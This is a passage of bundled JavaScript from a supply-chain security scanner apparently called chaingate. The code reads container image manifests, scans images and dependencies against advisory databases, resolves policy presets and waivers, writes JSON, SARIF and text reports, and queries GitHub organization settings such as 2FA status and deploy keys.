        ok: false,
        reason: `${ref.canonical}: a Docker image manifest schema 1, which chaingate does not read (push the image again with a current client)`
      };
    const config = manifest.body.config;
    if (!config || typeof config.digest !== "string")
      return { ok: false, reason: `${ref.canonical}: the manifest has no config (not an image manifest: ${manifest.mediaType || "no media type"})` };
    const bytes = await reader.blob(config.digest, MAX_CONFIG_BYTES);
    let body;
    try {
      body = JSON.parse(bytes.toString("utf8"));
    } catch {
      return { ok: false, reason: `${ref.canonical}: the image config is not JSON` };
    }
    const created = typeof body.created === "string" ? body.created : void 0;
    return { ok: true, digest: manifest.digest, platform, platformSource, ...created !== void 0 ? { created } : {} };
  } catch (error) {
    const cause = error.cause;
    const message2 = errorMessage(error);
    const hint = /HTTP 40[13]\b/.test(message2) && !/HTTP 40[13]: the registry /.test(message2) ? ": the registry wants credentials chaingate does not have (docker login, or REGISTRY_USERNAME/REGISTRY_PASSWORD)" : "";
    return { ok: false, reason: `${shown}: ${message2}${cause ? ` (${errorMessage(cause)})` : ""}${hint}` };
  }
}

// src/images/scan-fact.ts
var OFFLINE_IMAGE_REASON = "the run is offline (--offline): no registry is contacted, so the image is not read";
var imageScansFact = defineFact("images.scans", async (ctx) => {
  const named2 = ctx.images?.pushed ?? [];
  if (named2.length === 0) return known({ images: [] });
  const source = runAdvisorySource(ctx);
  if ("known" in source) return source;
  const { scanImages } = await import("./vulnerabilities-CO6S4L4Z.js");
  return known({
    images: await scanImages(
      named2.map((reference) => ({ reference, ...ctx.images?.platform ? { platform: ctx.images.platform } : {} })),
      source,
      ctx.registries
    )
  });
});
var imageScansFactFor = factPerGroups(
  "images.base-scans",
  (id, groups) => defineFact(id, async (ctx) => {
    const wanted = await wantedImages(ctx, groups);
    if (!wanted.known) return wanted;
    if (wanted.value.size === 0) return known(/* @__PURE__ */ new Map());
    const registries = ctx.registries;
    if (!registries || registries.offline)
      return unknownFact(
        "not-available",
        `the run is offline (--offline): no registry is contacted, so the ${beyondDockerfiles(groups) ? "images" : "base images"} are not read`
      );
    const source = runAdvisorySource(ctx);
    if ("known" in source) return source;
    const scans = /* @__PURE__ */ new Map();
    const named2 = ctx.images?.pushed ?? [];
    if (groups.includes("pushed") && named2.length > 0) {
      const pushed = await ctx.get(imageScansFact);
      if (pushed.known)
        named2.forEach((text, index) => {
          const image = pushedImage(text, ctx.images?.platform);
          const scan = pushed.value.images[index];
          if (!image.ref || !scan) return;
          const key2 = configKey(image.ref, platformFor(image).platform);
          if (wanted.value.has(key2) && !scans.has(key2)) scans.set(key2, scan);
        });
    }
    const rest = [...wanted.value.entries()].filter(([key2]) => !scans.has(key2));
    if (rest.length > 0) {
      const { scanImages } = await import("./vulnerabilities-CO6S4L4Z.js");
      const read = await scanImages(
        rest.map(([, item]) => ({ reference: item.ref.canonical, platform: item.platform })),
        source,
        registries
      );
      rest.forEach(([key2], index) => scans.set(key2, read[index]));
    }
    return known(scans);
  })
);
var baseImageScansFact = imageScansFactFor(["dockerfile"]);
var imageConfigsFromScansFor = factPerGroups(
  "images.base-configs-from-scans",
  (id, groups) => defineFact(id, async (ctx) => {
    if (ctx.registries && !ctx.registries.offline && "known" in runAdvisorySource(ctx)) return ctx.get(imageConfigsFactFor(groups));
    const scans = await ctx.get(imageScansFactFor(groups));
    if (!scans.known) return scans;
    const wanted = await wantedImages(ctx, groups);
    const results = /* @__PURE__ */ new Map();
    for (const [key2, scan] of scans.value) {
      const platformSource = wanted.known && wanted.value.get(key2)?.platformSource || "default";
      results.set(
        key2,
        scan.ok ? { ok: true, digest: scan.digest, platform: scan.platform, platformSource, ...scan.created !== void 0 ? { created: scan.created } : {} } : { ok: false, reason: scan.reason }
      );
    }
    return known({ results });
  })
);

// src/model/repository.ts
function parseRepository(text) {
  const match2 = /^([A-Za-z0-9](?:[A-Za-z0-9-]{0,38}))\/([A-Za-z0-9._-]{1,100})$/.exec(text.trim());
  if (!match2 || match2[2] === "." || match2[2] === "..") throw new ConfigurationError(`repository must be owner/name, got ${JSON.stringify(text)}`);
  return { owner: match2[1], repo: match2[2] };
}

// src/model/rule.ts
function defineRule(rule) {
  return rule;
}
function inBaseline(meta) {
  return meta.baseline ?? meta.access.token !== "elevated";
}

// src/policy/presets.ts
var PRESET_DEFAULTS = {
  baseline: { failOn: "high", onUnknown: "warn" },
  strict: { failOn: "low", onUnknown: "warn" },
  none: { failOn: "high", onUnknown: "warn" }
};
var DEFAULT_IGNORE_PATHS = [
  "**/testdata/**",
  "**/test-data/**",
  "**/test/fixtures/**",
  "**/tests/fixtures/**",
  "**/__fixtures__/**"
];
function presetRuleSettings(preset, rules) {
  const settings = /* @__PURE__ */ new Map();
  for (const rule of rules) {
    const enabled = preset === "strict" || preset === "baseline" && inBaseline(rule.meta);
    const options = preset === "strict" ? { ...rule.defaultOptions, ...rule.strictOptions ?? {} } : { ...rule.defaultOptions };
    settings.set(rule.meta.id, { enabled, options });
  }
  return settings;
}

// src/policy/resolve.ts
function embeddedPolicy(rules) {
  return resolvePolicy({}, "embedded default", rules, null);
}
function resolvePolicy(value, source, rules, file) {
  const preset = value.extends ?? "baseline";
  const defaults = PRESET_DEFAULTS[preset];
  const settings = presetRuleSettings(preset, rules);
  for (const [id, entry2] of Object.entries(value.rules ?? {})) {
    const setting = settings.get(id);
    if (!setting) continue;
    if (typeof entry2 === "boolean") {
      setting.enabled = entry2;
      continue;
    }
    const { enabled, severity, "min-confidence": minConfidence, ...options } = entry2;
    setting.enabled = typeof enabled === "boolean" ? enabled : true;
    if (severity) setting.severity = severity;
    if (minConfidence) setting.minConfidence = minConfidence;
    setting.options = { ...setting.options, ...options };
  }
  const waivers = (value.waivers ?? []).map((waiver, index) => {
    const node = file ? nodeAtPath(file.doc, ["waivers", index]) : null;
    return {
      rule: String(waiver.rule),
      paths: waiver.paths ?? [],
      ...Array.isArray(waiver.advisories) ? { advisories: waiver.advisories } : {},
      ...Array.isArray(waiver.purls) ? { purls: waiver.purls } : {},
      reason: String(waiver.reason),
      ...typeof waiver.expires === "string" ? { expires: waiver.expires } : {},
      ...file && node ? { location: locate(file, node) } : {}
    };
  });
  const advisories = value.advisories;
  const advisoriesNode = file && advisories ? nodeAtPath(file.doc, ["advisories"]) : null;
  return {
    ...advisories ? {
      advisories: {
        ...typeof advisories.source === "string" ? { source: advisories.source } : {},
        ...typeof advisories["osv-url"] === "string" ? { osvUrl: advisories["osv-url"] } : {},
        ...file && advisoriesNode ? { location: locate(file, advisoriesNode) } : {}
      }
    } : {},
    source,
    extends: preset,
    failOn: value["fail-on"] ?? defaults.failOn,
    onUnknown: value["on-unknown"] ?? defaults.onUnknown,
    ...typeof value["min-confidence"] === "string" ? { minConfidence: value["min-confidence"] } : {},
    rules: settings,
    waivers,
    ignorePaths: value["ignore-paths"] ?? [...DEFAULT_IGNORE_PATHS],
    ...Array.isArray(value.vex) ? { vex: value.vex } : {}
  };
}

// src/policy/types.ts
var PRESETS = ["baseline", "strict", "none"];
var FAIL_ON = ["critical", "high", "medium", "low", "none"];

// src/report/json.ts
function toJson(report) {
  return `${jsonText(JSON.stringify(report, null, 2))}
`;
}
function* jsonChunks(report) {
  const keys = Object.keys(report).filter((key2) => report[key2] !== void 0);
  yield "{\n";
  for (const [index, key2] of keys.entries()) {
    const comma = index < keys.length - 1 ? "," : "";
    const value = report[key2];
    if (key2 === "findings" && Array.isArray(value) && value.length > 0) {
      yield `  ${JSON.stringify(key2)}: [
`;
      for (const [at, finding] of value.entries())
        yield `    ${indent(jsonText(JSON.stringify(finding, null, 2)), "    ")}${at < value.length - 1 ? "," : ""}
`;
      yield `  ]${comma}
`;
    } else {
      yield `  ${JSON.stringify(key2)}: ${indent(jsonText(JSON.stringify(value, null, 2)), "  ")}${comma}
`;
    }
  }
  yield "}\n";
}
function indent(json, prefix) {
  return json.includes("\n") ? json.replace(/\n/g, `
${prefix}`) : json;
}

// src/report/sarif-limits.ts
var MAX_SARIF_RESULTS = 25e3;
function sarifResultCount(report) {
  let count = 0;
  for (const finding of report.findings) if (finding.status === "fail" || finding.status === "waived") count += 1;
  return count;
}
function sarifCapNotice(total) {
  return `The SARIF file holds the ${thousands(MAX_SARIF_RESULTS)} most severe of ${thousands(total)} failing and waived findings (code scanning takes at most ${thousands(MAX_SARIF_RESULTS)} results per run); the JSON report (the action's report-json output, or check --format json) has every finding.`;
}
function thousands(value) {
  return String(value).replace(/\B(?=(\d{3})+(?!\d))/g, ",");
}

// fs-without-es-facade:src/report/stream.ts
var fs6 = process.getBuiltinModule("node:fs");
var stream_default = fs6;

// src/report/stream.ts
import path8 from "node:path";
function writeInBatches(pieces, write, batchChars = 65536) {
  let batch = [];
  let size = 0;
  for (const piece of pieces) {
    batch.push(piece);
    size += piece.length;
    if (size >= batchChars) {
      write(batch.join(""));
      batch = [];
      size = 0;
    }
  }
  if (batch.length > 0) write(batch.join(""));
}
function* withLineBreaks(lines2) {
  for (const line of lines2) yield `${line}
`;
}
var WRITE_FLAGS = stream_default.constants.O_WRONLY | stream_default.constants.O_CREAT | stream_default.constants.O_TRUNC | (stream_default.constants.O_NOFOLLOW ?? 0);
function writeFileInPieces(file, pieces) {
  stream_default.mkdirSync(path8.dirname(file), { recursive: true });
  const fd = stream_default.openSync(file, WRITE_FLAGS, 420);
  try {
    writeInBatches(pieces, (text) => {
      const bytes = Buffer.from(text, "utf8");
      for (let offset = 0; offset < bytes.length; ) offset += stream_default.writeSync(fd, bytes, offset, bytes.length - offset);
    });
  } finally {
    stream_default.closeSync(fd);
  }
}
function writeReportFile(file, pieces, shown) {
  try {
    writeFileInPieces(file, pieces);
  } catch (error) {
    throw writeError(shown, error);
  }
}

// src/report/text.ts
function toText(report, options = {}) {
  return `${[...textLines(report, options)].join("\n")}
`;
}
function* textLines(report, options = {}) {
  const grouped = /* @__PURE__ */ new Map();
  for (const finding of report.findings) {
    if (finding.status !== "unknown" || finding.location || options.verbose) continue;
    const key2 = `${finding.message}\0${finding.permission ?? ""}`;
    const group = grouped.get(key2);
    if (group) group.push(finding);
    else grouped.set(key2, [finding]);
  }
  const printedGroups = /* @__PURE__ */ new Set();
  for (const finding of report.findings) {
    if (finding.status === "pass" && !options.verbose) continue;
    const key2 = `${finding.message}\0${finding.permission ?? ""}`;
    const group = finding.status === "unknown" && !finding.location && !options.verbose ? grouped.get(key2) : void 0;
    if (group && group.length > 1) {
      if (printedGroups.has(key2)) continue;
      printedGroups.add(key2);
      const grant = finding.permission ? ` (grant ${textField(finding.permission)})` : "";
      yield `unknown: ${group.length} checks could not see their data: ${textField(finding.message)}${grant}: ${group.map((entry2) => textField(entry2.rule)).join(", ")}`;
      continue;
    }
    yield* findingLines(finding);
  }
  const { counts } = report;
  const target2 = [report.target.repository, report.target.ref].filter(Boolean).join("@") || report.target.path;
  yield "";
  if (report.inventory) yield* inventoryLines(report.inventory);
  if (report.advisories) yield textLine(advisoriesLine(report));
  if (report.dependencyReview) {
    const review = report.dependencyReview;
    yield textLine(
      `dependency review against ${textField(review.base.slice(0, 12))} (${textField(review.event)}): ${review.added.length} added, ${review.removed.length} removed, ${review.changed.length} changed; ${review.vulnerabilities.length} advisories in what the change introduced`
    );
  }
  yield `${report.verdict === "pass" ? "PASS" : "FAIL"} ${textField(target2)}: ${counts.fail} failed (${counts.failing} over fail-on ${report.policy.failOn}), ${counts.unknown} unknown, ${counts.waived} waived, ${counts.pass} passed` + (counts.belowMinConfidence !== void 0 ? `, ${counts.belowMinConfidence} left out by min-confidence` : "") + ` [policy: ${textField(report.policy.source)}; ${report.stats.apiRequests} API requests; ${report.stats.durationMs} ms]`;
}
function advisoriesLine(report) {
  const advisories = report.advisories;
  const vex = report.vex?.documents.length ? `; VEX: ${report.vex.documents.map((document) => textField(document)).join(", ")}` : "";
  if (advisories.source === null) return `advisories: none read (${textField(advisories.reason)})${vex}`;
  const { kind, location, snapshot } = advisories.source;
  return `advisories: ${kind} ${textField(location)}${snapshot ? ` (snapshot ${textField(snapshot)})` : ""}: ${advisories.checked} packages checked, ${advisories.matches} matched${advisories.unchecked ? `, ${advisories.unchecked} could not be checked` : ""}${vex}`;
}
function* findingLines(finding) {
  yield formatFinding(finding);
  for (const related2 of finding.relatedLocations ?? []) {
    yield textLine(`  related: ${textField(related2.location.path)}:${related2.location.startLine}:${related2.location.startColumn}: ${textField(related2.message)}`);
  }
}
function formatFinding(finding) {
  const where = finding.location ? `${textField(finding.location.path)}:${finding.location.startLine}:${finding.location.startColumn}: ` : "";
  const extra = [
    finding.confidence && finding.confidence !== "high" ? `confidence ${finding.confidence}` : "",
    finding.permission ? `grant ${textField(finding.permission)}` : "",
    finding.waiver ? `waived: ${textField(finding.waiver.reason)}` : "",
    finding.fix ? `fix: ${textField(finding.fix)}` : ""
  ].filter(Boolean);
  return textLine(`${where}${finding.status} ${finding.severity} [${textField(finding.rule)}] ${textField(finding.message)}${extra.length ? ` (${extra.join("; ")})` : ""}`);
}
function printable(text) {
  return textField(text.replace(/[\u0000-\u001f\u007f-\u009f]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`));
}
function* inventoryLines(inventory) {
  const plural = (n, word) => `${n} ${word}${n === 1 ? "" : "s"}`;
  yield `inventory: ${plural(inventory.packages, "package")} in ${plural(inventory.files, "file")}${inventory.problems ? ` (${plural(inventory.problems, "file")} could not be read)` : ""}${inventory.skipped ? `; ${plural(inventory.skipped, "lockfile")} left out by ignore-paths` : ""}`;
  for (const entry2 of inventory.ecosystems) {
    const scopes = ["runtime", "dev", "optional", "unknown"].filter((scope) => entry2.scopes[scope] > 0).map((scope) => `${entry2.scopes[scope]} ${scope === "unknown" ? "scope unknown" : scope}`);
    yield `  ${printable(entry2.ecosystem)}: ${plural(entry2.packages, "package")} (${scopes.join(", ")}) in ${plural(entry2.files, "file")}`;
  }
}

// src/rules/dependencies/package-location-support.ts
function locationOf(where) {
  const column = where.column ?? 1;
  return { path: where.path, startLine: where.line, startColumn: column, endLine: where.line, endColumn: column };
}
function packageLabel(pkg) {
  return pkg.version === null ? pkg.name : `${pkg.name}@${pkg.version}`;
}
function listSome(items2, shown = 5) {
  if (items2.length <= shown) return items2.join(", ");
  return `${items2.slice(0, shown).join(", ")} and ${items2.length - shown} more`;
}

// src/rules/dependencies/advisory-support.ts
function judged(pkg) {
  return pkg.source !== "workspace" && pkg.ecosystem !== "GitHub Actions";
}
var NOTHING_TO_LOOK_UP = "no package with a resolved version to look up in an advisory database";
function withImages(workspace, images) {
  const empty = workspace.length === 1 && workspace[0].status === "pass" && workspace[0].message === NOTHING_TO_LOOK_UP;
  return images.length > 0 && empty ? images : [...workspace, ...images];
}
function nothingToCheck(inventory, advisories) {
  const lookups = inventory.packages.filter((pkg) => pkg.version !== null && judged(pkg)).length;
  if (lookups === 0) return { status: "pass", message: NOTHING_TO_LOOK_UP };
  if (!advisories.known)
    return {
      status: "unknown",
      message: `${lookups} package${lookups === 1 ? "" : "s"} not checked for known vulnerabilities: ${advisories.reason}`,
      ...advisories.permission ? { permission: advisories.permission } : {}
    };
  return null;
}
var SEVERITY_OF_WORD = { critical: "critical", high: "high", moderate: "medium", low: "low" };
function sourceLabel(report) {
  const { kind, location, snapshot } = report.source;
  const name = kind === "github" ? "GitHub's advisory database" : kind === "osv" ? "the OSV API" : "the OSV snapshot";
  return `${name} ${location}${snapshot ? ` (snapshot ${snapshot.slice(0, 10)})` : ""}`;
}
var DependencyPaths = class {
  parents = /* @__PURE__ */ new Map();
  byKey = /* @__PURE__ */ new Map();
  memo = /* @__PURE__ */ new Map();
  constructor(inventory) {
    for (const pkg of inventory.packages) this.byKey.set(packageKey(pkg), pkg);
    for (const edge of inventory.edges) this.parents.set(edge.to, [...this.parents.get(edge.to) ?? [], edge.from]);
  }
  pathTo(pkg) {
    const start = packageKey(pkg);
    if (this.memo.has(start)) return this.memo.get(start);
    let found = null;
    if (pkg.direct === true) found = [];
    else {
      const previous = /* @__PURE__ */ new Map([[start, ""]]);
      const queue = [start];
      while (queue.length > 0 && !found) {
        const key2 = queue.shift();
        for (const parent of this.parents.get(key2) ?? []) {
          if (previous.has(parent)) continue;
          previous.set(parent, key2);
          const node = this.byKey.get(parent);
          if (node?.direct === true) {
            const chain = [];
            for (let at = parent; at !== ""; at = previous.get(at)) {
              const step = this.byKey.get(at);
              if (step) chain.push(step);
            }
            found = chain;
            break;
          }
          queue.push(parent);
        }
      }
    }
    this.memo.set(start, found);
    return found;
  }
};
function describePath(pkg, chain) {
  if (chain === null)
    return pkg.direct === false ? "transitive, path not recorded" : pkg.direct === null ? "direct or transitive: the file does not say" : "direct dependency";
  if (chain.length === 0) return "direct dependency";
  return `via ${chain.slice(0, -1).map((step) => step.name).join(" > ")}`;
}
function introducedView(gate, diff) {
  if (gate === "all") return { keys: null };
  if (diff.known) return { keys: diff.value.introduced };
  if (diff.cause === "other-event" || diff.cause === "not-applicable") return { keys: null };
  return { keys: null, unavailable: diff.reason };
}
function matchFields(match2, chain, introduced, report) {
  const { package: pkg, advisory } = match2;
  return {
    ...pkg.purl ? { purl: pkg.purl } : {},
    advisories: advisoryIds(advisory),
    ...advisory.covers ? { covers: [...advisory.covers] } : {},
    fixedVersions: [...match2.fixedVersions],
    location: locationOf(pkg.location),
    details: {
      ecosystem: pkg.ecosystem,
      name: pkg.name,
      version: pkg.version,
      scope: pkg.scope,
      direct: pkg.direct,
      dependencyPath: chain === null ? null : [...chain.map((step) => packageLabel(step)), ...chain.length === 0 ? [packageLabel(pkg)] : []],
      severity: advisory.severity.word,
      ...advisory.severity.score !== void 0 ? { cvssScore: advisory.severity.score } : {},
      ...advisory.severity.vector ? { cvssVector: advisory.severity.vector } : {},
      ...advisory.published ? { published: advisory.published } : {},
      ...advisory.epss ? { epss: advisory.epss.percentage } : {},
      ...advisory.summary ? { summary: advisory.summary } : {},
      ...advisory.url ? { url: advisory.url } : {},
      introduced,
      source: report.source.kind,
      ...report.source.snapshot ? { snapshot: report.source.snapshot } : {}
    }
  };
}
function idsLabel(match2) {
  const [first, ...rest] = advisoryIds(match2.advisory);
  const covers = match2.advisory.covers ?? [];
  const parts = [...rest.length ? [listSome(rest, 4)] : [], ...covers.length ? [`fixes ${listSome(covers, 4)}`] : []];
  return parts.length ? `${first} (${parts.join("; ")})` : first;
}
function uncheckedResults(report, keep = () => true) {
  const byFile = /* @__PURE__ */ new Map();
  for (const entry2 of report.unchecked) {
    if (!judged(entry2.package) || !keep(entry2.package)) continue;
    byFile.set(entry2.package.location.path, [...byFile.get(entry2.package.location.path) ?? [], entry2]);
  }
  const results = [];
  for (const [file, entries2] of byFile) {
    const reasons = [...new Set(entries2.map((entry2) => entry2.reason))];
    const one = entries2.length === 1 ? entries2[0] : void 0;
    results.push({
      status: "unknown",
      message: `${entries2.length} package${entries2.length === 1 ? "" : "s"} in ${file} could not be checked against ${sourceLabel(report)}: ` + (reasons.length === 1 ? `${reasons[0]}: ${listSome(entries2.map((entry2) => packageLabel(entry2.package)))}` : listSome(entries2.map((entry2) => `${packageLabel(entry2.package)} (${entry2.reason})`))),
      location: locationOf(entries2[0].package.location),
      ...one?.package.purl ? { purl: one.package.purl } : {},
      details: { packages: entries2.map((entry2) => entry2.package.purl ?? packageLabel(entry2.package)) }
    });
  }
  return results;
}
var DAY_MS = 24 * 60 * 60 * 1e3;
function gateOutcome(match2, options, now) {
  const overdue2 = overdueBy(match2, options["max-age-days"], now);
  return { overdue: overdue2, below: overdue2 ? [] : belowGate(match2, options) };
}
function belowGate(match2, options) {
  const reasons = [];
  const word = match2.advisory.severity.word;
  if (word && SEVERITY_WORDS.indexOf(word) < SEVERITY_WORDS.indexOf(options["fail-on"])) reasons.push(`${word} is below fail-on ${options["fail-on"]}`);
  if (options["only-fixed"] && match2.fixedVersions.length === 0)
    reasons.push(match2.noFix ? "no fix will come (only-fixed)" : "no fixed version yet (only-fixed)");
  const epss = match2.advisory.epss?.percentage;
  if (options.epss !== void 0 && epss !== void 0 && epss < options.epss) reasons.push(`EPSS ${epss} is below ${options.epss}`);
  return reasons;
}
function overdueBy(match2, days, now) {
  if (days === void 0 || match2.fixedVersions.length > 0 || !match2.advisory.published) return null;
  const published = Date.parse(match2.advisory.published);
  if (!Number.isFinite(published)) return null;
  const age = Math.floor((now.getTime() - published) / DAY_MS);
  return age > days ? `published ${age} days ago with no fix, over max-age-days ${days}` : null;
}
function matchSeverity(match2) {
  const word = match2.advisory.severity.word;
  return word ? SEVERITY_OF_WORD[word] : "high";
}
function advisoryLabel(match2) {
  const { advisory } = match2;
  const score = advisory.severity.score !== void 0 ? ` ${advisory.severity.score.toFixed(1)}` : "";
  return `${idsLabel(match2)}, ${advisory.severity.word ?? "severity unknown"}${score}${advisory.summary ? ` \u2014 ${advisory.summary}` : ""}`;
}
function imageFixState(match2) {
  if (match2.fixedVersions.length === 0) {
    if (match2.noFix) return `will not be fixed (${match2.noFix})`;
    if (match2.package.ecosystem.startsWith("Ubuntu:"))
      return "no fix yet (the affected range has no fixed version; Ubuntu's records do not tell a deferred or not-planned fix from a needed one)";
    return "no fix yet (the affected range has no fixed version)";
  }
  const pro = match2.package.ecosystem.startsWith("Ubuntu:") && match2.fixedVersions.every((version) => /\+esm\d*$/.test(version));
  return `fixed in ${listSome(match2.fixedVersions, 3)}${pro ? " (Ubuntu Pro)" : ""}`;
}
function imagePackageLabel(pkg) {
  const source = pkg.sourcePackage && (pkg.sourcePackage.name !== pkg.name || pkg.sourcePackage.version) ? `, source package ${pkg.sourcePackage.name}${pkg.sourcePackage.version ? ` ${pkg.sourcePackage.version}` : ""}` : "";
  return `${packageLabel(pkg)} (${pkg.ecosystem}${source})`;
}
function imageMatchFields(scan, match2, at) {
  const { location: _inImage, details, ...fields } = matchFields(match2, null, null, scan.report);
  const pkg = match2.package;
  return {
    ...fields,
    ...at ? { location: at } : {},
    details: {
      ...details,
      dependencyPath: null,
      introduced: null,
      image: scan.reference,
      imageDigest: scan.digest,
      platform: scan.platform,
      ...scan.distro ? { distro: scan.distro } : {},
      ...pkg.sourcePackage ? { sourcePackage: pkg.sourcePackage.name, ...pkg.sourcePackage.version ? { sourceVersion: pkg.sourcePackage.version } : {} } : {},
      imagePath: `${pkg.location.path}:${pkg.location.line}`,
      ...pkg.layer ? { layer: pkg.layer } : {},
      fixState: match2.fixedVersions.length > 0 ? "fixed" : match2.noFix ? "will-not-fix" : "no-fix-yet"
    }
  };
}
function imageUnknowns(scans, keep = () => true) {
  const results = [];
  for (const { scan, label, at } of scans) {
    const where = at ? { location: at } : {};
    if (!scan.ok) {
      results.push({ status: "unknown", message: `${label}: vulnerabilities not checked: ${scan.reason}`, ...where, details: { image: scan.reference } });
      continue;
    }
    for (const problem of scan.problems) {
      results.push({
        status: "unknown",
        message: `${label}: ${problem.path}${problem.line ? `:${problem.line}` : ""}: ${problem.message}; what it lists is not checked for vulnerabilities`,
        ...where,
        details: { image: scan.reference, imageDigest: scan.digest }
      });
    }
    const byReason = /* @__PURE__ */ new Map();
    for (const entry2 of scan.report.unchecked) {
      if (!keep(entry2.package)) continue;
      byReason.set(entry2.reason, [...byReason.get(entry2.reason) ?? [], entry2.package]);
    }
    for (const [reason, packages] of byReason) {
      results.push({
        status: "unknown",
        message: `${label}: ${packages.length} package${packages.length === 1 ? "" : "s"} could not be checked against ${sourceLabel(scan.report)}: ${reason}: ${listSome(packages.map((pkg) => packageLabel(pkg)))}`,
        ...where,
        ...packages.length === 1 && packages[0].purl ? { purl: packages[0].purl } : {},
        details: { image: scan.reference, imageDigest: scan.digest, packages: packages.map((pkg) => pkg.purl ?? packageLabel(pkg)) }
      });
    }
  }
  return results;
}

// src/github/facts/organization.ts
var ORG_OWNER_PERMISSION = 'organization owner: classic PAT with admin:org (read:org for lists), or a GitHub App / fine-grained PAT with organization "Administration: read" and "Members: read"';
var organizationFact = defineFact("github.organization", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = (await client.octokit.rest.orgs.get({ org: login.value })).data;
      const ownerView = typeof data.two_factor_requirement_enabled === "boolean" || typeof data.default_repository_permission === "string";
      return { login: login.value, data, ownerView };
    },
    { what: `organization ${login.value}`, permission: "Metadata: read", complete: (org) => org.ownerView }
  );
});
var ownerViewFact = defineFact("github.organization-owner-view", (ctx) => ownerViewOf(ctx));
async function ownerViewOf(ctx) {
  const org = await ctx.get(organizationFact);
  if (!org.known) return org;
  if (!org.value.ownerView) {
    return unknownFact(
      "permission",
      `the token cannot see the settings of organization ${org.value.login} (GitHub returns them to organization owners only); pass an owner's token or a GitHub App token as admin-token`,
      ORG_OWNER_PERMISSION
    );
  }
  return org;
}
function ownerOnly(what2) {
  return {
    what: what2,
    permission: ORG_OWNER_PERMISSION,
    onStatus: (error) => error.status === 422 || error.status === 403 && !/rate limit/i.test(error.message) ? unknownFact(
      "permission",
      `could not list ${what2}: only organization owners may filter by 2FA status (GitHub answered ${error.status}: ${error.message.split("\n")[0]})`,
      acceptedPermissions(error) ?? ORG_OWNER_PERMISSION
    ) : void 0
  };
}
var membersWithout2faFact = defineFact("github.org-members-without-2fa", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  const org = login.value;
  const [members, outside] = await Promise.all([
    tieredFact(
      ctx,
      "elevated",
      async (client) => (await listAll(client, "GET /orgs/{org}/members", { org, filter: "2fa_disabled" })).items,
      ownerOnly(`members of ${org} without 2FA`)
    ),
    tieredFact(
      ctx,
      "elevated",
      async (client) => (await listAll(client, "GET /orgs/{org}/outside_collaborators", { org, filter: "2fa_disabled" })).items,
      ownerOnly(`outside collaborators of ${org} without 2FA`)
    )
  ]);
  if (!members.known) return members;
  if (!outside.known) return outside;
  const slim = (users) => users.map((user) => ({ login: user.login, ...user.id !== void 0 ? { id: user.id } : {} }));
  return known({ members: slim(members.value), outsideCollaborators: slim(outside.value) });
});
var orgOwnersFact = defineFact("github.org-owners", async (ctx) => {
  const org = await ctx.get(ownerViewFact);
  if (!org.known) return org;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => (await listAll(client, "GET /orgs/{org}/members", { org: org.value.login, role: "admin" })).items.map((user) => ({ login: user.login })),
    { what: `owners of ${org.value.login}`, permission: "Members: read (organization)" }
  );
});
var outsideCollaboratorsFact = defineFact("github.repo-outside-collaborators", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/collaborators",
        { owner, repo, affiliation: "outside" }
      );
      return items2.map((item) => ({ login: item.login, roleName: item.role_name ?? "", permissions: item.permissions ?? {} }));
    },
    { what: `outside collaborators of ${owner}/${repo}`, permission: "Administration: read (repository; GitHub requires push access to list collaborators)" }
  );
});
var deployKeysFact = defineFact("github.deploy-keys", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/keys",
        { owner, repo }
      );
      return items2.map((item) => ({
        id: item.id,
        title: item.title,
        readOnly: item.read_only,
        createdAt: item.created_at,
        ...item.last_used !== void 0 ? { lastUsed: item.last_used } : {}
      }));
    },
    { what: `deploy keys of ${owner}/${repo}`, permission: "Administration: read" }
  );
});
var fineGrainedTokensFact = defineFact("github.org-fine-grained-pats", async (ctx) => {
  const login = await ctx.get(organizationLoginFact);
  if (!login.known) return login;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /orgs/{org}/personal-access-tokens", { org: login.value });
      return items2.map((item) => ({
        id: item.id,
        owner: item.owner.login,
        ...item.token_name ? { name: item.token_name } : {},
        expiresAt: item.token_expires_at,
        expired: item.token_expired,
        lastUsedAt: item.token_last_used_at
      }));
    },
    {
      what: `fine-grained personal access tokens approved in ${login.value}`,
      permission: 'a GitHub App installation token with organization "Personal access tokens: read" (GitHub allows only Apps on this endpoint)',
      ghesFeature: "the fine-grained personal access token API"
    }
  );
});
var samlSsoFact = defineFact("github.org-saml-sso", async (ctx) => {
  const org = await ctx.get(ownerViewFact);
  if (!org.known) return org;
  return tieredFact(
    ctx,
    "elevated",
    async (client) => {
      const data = await graphql(client, SAML_QUERY, {
        login: org.value.login
      });
      if (!data.organization) throw new Error(`organization ${org.value.login} not visible to GraphQL`);
      return { ssoUrl: data.organization.samlIdentityProvider?.ssoUrl ?? null };
    },
    { what: `SAML single sign-on of ${org.value.login}`, permission: ORG_OWNER_PERMISSION, ghesFeature: "SAML single sign-on for organizations" }
  );
});

// src/rules/accounts/deploy-keys.ts
var deployKeys = defineRule({
  meta: {
    id: "deploy-keys",
    area: "accounts",
    severity: "medium",
    title: "Deploy key with write access or past its rotation age",
    rationale: "A deploy key is a long-lived credential outside any user's 2FA; with write access it pushes past pull requests (it is a ruleset bypass actor type of its own).",
    remediation: "Make deploy keys read-only (use a GitHub App for writes), and rotate keys older than the policy age.",
    references: ["SSC-09", "CNCF SSCP: key rotation, short-lived credentials"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{o}/{r}/keys needs repository admin read: pass admin-token." }
  },
  needs: [deployKeysFact],
  defaultOptions: { allowWrite: false, maxAgeDays: 365 },
  strictOptions: { maxAgeDays: 180 },
  optionsSchema: {
    type: "object",
    properties: { allowWrite: { type: "boolean" }, maxAgeDays: { type: "integer", minimum: 1, description: "Keys older than this are due for rotation." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(deployKeysFact);
    const results = [];
    for (const key2 of fact) {
